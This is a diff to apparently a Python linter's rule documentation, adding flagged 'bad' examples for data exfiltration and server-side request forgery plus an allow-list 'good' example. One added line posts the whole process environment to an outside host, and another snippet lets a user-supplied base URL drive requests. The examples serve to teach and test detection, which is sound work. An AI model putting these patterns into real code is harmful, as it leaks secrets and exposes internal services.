@@ -178,6 +178,14 @@ link = socket.socket()
 link.sendall(body)  # error: [data-sent-away]
 \`\`\`
 
+\`\`\`python
+import os
+
+import requests
+
+requests.post("https://example.org/c", json=dict(os.environ), timeout=3)  # error: [data-sent-away]
+\`\`\`
+
 ## Good
 
 \`\`\`python
@@ -387,6 +395,29 @@ first = requests.get("https://example.com/next").text
 second = requests.get(first)  # error: [request-forgery]
 \`\`\`
 
+\`\`\`python
+import requests
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+class Client:
+    def __init__(self, base):
+        self.base = base
+        self.session = requests.Session()
+
+    def get(self, path):
+        return self.session.get(self.base + path, timeout=3)  # error: [request-forgery]
+
+
+@app.get("/remote")
+def remote():
+    if request.args["base"] in BLOCKED:
+        return "no", 403
+    return Client(request.args["base"]).get("/status").text
+\`\`\`
+
 ## Good
 
 \`\`\`python
@@ -402,6 +433,25 @@ async def item(name: str):
 
 
 requests.get("https://example.com", params={"q": 1})
+\`\`\`
+
+\`\`\`python
+from urllib.parse import urlparse
+
+import requests
+from flask import Flask, request
+
+app = Flask(__name__)
+HOSTS = {"api.example.com"}
+
+
+@app.get("/proxy")
+def proxy():
+    address = request.args["url"]
+    host = urlparse(address).hostname
+    if host not in HOSTS:
+        return "no", 403
+    return requests.get(address, timeout=3).text
 \`\`\`
 `,
   'request-without-timeout': `# request-without-timeout
